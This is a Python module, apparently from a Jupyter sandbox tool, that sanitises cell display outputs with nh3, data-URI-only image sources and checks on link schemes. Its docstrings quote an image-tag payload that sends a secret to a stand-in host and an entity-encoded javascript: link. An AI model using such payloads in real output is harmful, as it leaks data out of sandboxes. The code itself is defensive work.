"""A sandbox cell's displays (figures, tables, ``display()``, its last value) as cell outputs.

Each display the run brought back (`SandboxRun.displays`: checked, secret-masked data, whose
HTML and SVG are still the container's own markup) becomes one ``display_data`` output,
shown after the run's record as a notebook cell shows its own: its MIME bundle holds

- the display under `DISPLAY_MIME`, which the JupyterLab extension renders as *untrusted*
  output, through JupyterLab's own HTML sanitiser and a pass of its own (a live session's
  outputs are otherwise trusted, and a saved notebook is trusted again once its owner saves
  it), and
- fallbacks every other frontend and every export (nbconvert's HTML) shows as it is, so they
  are made safe here: HTML through ``nh3`` (ammonia: no script, no event handler, no style, no
  class), Markdown rendered to HTML first and then the same (`_safe`), an SVG only as an
  ``<img>`` of it (a script in an image never runs), PNG/JPEG as checked base64, JSON as its
  text, and text.

A display loads nothing from anywhere: the code that made it may have had no network, and an
image's address is a way out for its data (``<img src=http://host/?d=SECRET>``, fetched when
the notebook is opened). So a source (``src``) survives only as ``data:`` (an image the display
holds), a link only to ``http``, ``https`` or ``mailto`` (followed by a click, never by itself).
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterable, Mapping
from typing import Any

from jupyter_sandbox.records import DISPLAY_MIME, RECORD_VERSION, DisplayRecord

from ._route import CellRoute

_DATA = ("text/html", "image/png", "image/jpeg", "text/plain")
"""Fallbacks kept as they came (after `_safe`). Markdown is not one: it becomes HTML
(`_markdown`), as a notebook would draw it, so what a link points to is checked after
CommonMark has decoded it. JSON data is not one either: JupyterLab's own JSON viewer ranks
ahead of every extension and would draw it instead of `DISPLAY_MIME`; its text (indented)
stands in for it."""
_LINKS = frozenset({"http", "https", "mailto"})
"""Where a display's link may go."""
_SOURCE = re.compile(r"\s*data:image/(?:png|jpeg|gif|webp|svg\+xml)[;,]", re.IGNORECASE)
"""The one kind of source a display keeps: an image it holds itself."""


def display_bundle(display: Mapping[str, Any]) -> dict[str, Any]:
    """The MIME bundle of one display: ours for JupyterLab, safe fallbacks for the rest."""
    record: DisplayRecord = {"version": RECORD_VERSION, "data": dict(display)}
    shown: dict[str, Any] = {DISPLAY_MIME: record}
    for mime in _DATA:
        if mime in display:
            shown[mime] = _safe(mime, display[mime])
    markdown = display.get("text/markdown")
    if "text/html" not in shown and markdown is not None:
        shown["text/html"] = _safe("text/html", _markdown(str(markdown)))
    if "application/json" in display:
        shown["text/plain"] = json.dumps(display["application/json"], indent=2)
    svg = display.get("image/svg+xml")
    if isinstance(svg, str) and "text/html" not in shown:
        image = base64.b64encode(svg.encode()).decode()
        shown["text/html"] = f'<img alt="SVG image" src="data:image/svg+xml;base64,{image}">'
    if not shown.get("text/plain"):  # a terminal says what it cannot draw
        kinds = ", ".join(mime for mime in display if mime != "text/plain")
        shown["text/plain"] = f"<display: {kinds}>"
    return shown


def _markdown(text: str) -> str:
    """``text`` as CommonMark HTML (raw HTML passed through, as a notebook's renderer does; the
    caller sanitises it): entities, backslash escapes and reference definitions are resolved
    here, so ``jav&#x61;script:`` is checked as what a reader's click would follow."""
    from markdown_it import MarkdownIt

    return str(MarkdownIt("commonmark").enable("table").render(text))


def _attribute(tag: str, name: str, value: str) -> str | None:
    """nh3's last word on each attribute it kept (its scheme already one of `_LINKS` or
    ``data``): a source loads only an image the display holds, a link never opens data."""
    if name == "src":
        return value if _SOURCE.match(value) else None
    if value.strip().lower().startswith("data:"):
        return None
    return value


def _safe(mime: str, value: Any) -> Any:
    """``value`` as a frontend may show it without running or loading any of it."""
    if mime == "text/html":
        import nh3

        return nh3.clean(
            str(value), url_schemes=set(_LINKS | {"data"}), attribute_filter=_attribute
        )
    return value


def show_displays(displays: Iterable[Mapping[str, Any]]) -> None:
    """Each display as an output of the running cell (text without IPython)."""
    route = CellRoute()
    for display in displays:
        route.show(display_bundle(display))
